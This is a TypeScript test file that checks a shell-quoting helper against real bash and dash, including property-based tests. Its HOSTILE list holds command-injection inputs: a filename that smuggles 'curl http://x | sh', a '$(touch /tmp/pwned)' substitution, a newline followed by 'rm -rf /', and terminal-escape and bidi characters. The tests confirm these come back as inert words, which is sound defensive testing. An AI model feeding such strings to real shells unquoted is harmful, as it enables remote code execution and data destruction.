import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { shellCommand, shellQuote } from './shell-quote.js';
import { needsEscape } from './terminal.js';

/** What a real shell makes of a line: each word printed between NULs. */
function wordsBy(shell: string, line: string): string[] {
  const out = execFileSync(shell, ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' });
  return out.split('\0').slice(0, -1);
}

const HOSTILE = [
  "/home/bob/s.conf'; curl http://x | sh #",
  'zz $(touch /tmp/pwned).conf',
  '`id`',
  'a b\tc',
  "it's",
  '',
  '-rf',
  'line1\nrm -rf /',
  'esc\x1b]0;title\x07',
  'bidi\u202eevil',
  '*',
  '~root',
  'a\\b',
  '$HOME',
  '!!',
  'naïve',
];

test('bash reads every quoted hostile word back as exactly that word, and runs nothing', () => {
  for (const w of HOSTILE) assert.deepEqual(wordsBy('bash', shellQuote(w)), [w], JSON.stringify(w));
  assert.deepEqual(wordsBy('bash', shellCommand(HOSTILE)), HOSTILE);
});

test('dash (no $\'…\') still reads one inert word per quoted word', () => {
  for (const w of HOSTILE) {
    const got = wordsBy('dash', shellQuote(w));
    assert.equal(got.length, 1, JSON.stringify(w));
    if (!needsEscape(w)) assert.equal(got[0], w);
  }
});

test('plain words are left as they are; the quoted form never holds a control or bidi character', () => {
  assert.equal(shellQuote('/etc/supervisor/supervisord.conf'), '/etc/supervisor/supervisord.conf');
  assert.equal(shellQuote('nginx.service'), 'nginx.service');
  assert.equal(shellQuote("it's"), "'it'\\''s'");
  assert.equal(shellQuote('a\nb'), "$'a\\x0ab'");
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (w) => !needsEscape(shellQuote(w))),
    { numRuns: 500 },
  );
});

test('property: bash reads any string back unchanged (batched in one shell)', () => {
  const words = fc.sample(fc.string({ unit: 'binary', minLength: 1, maxLength: 24 }).filter((w) => !w.includes('\0')), 300);
  assert.deepEqual(wordsBy('bash', shellCommand(words)), words);
});
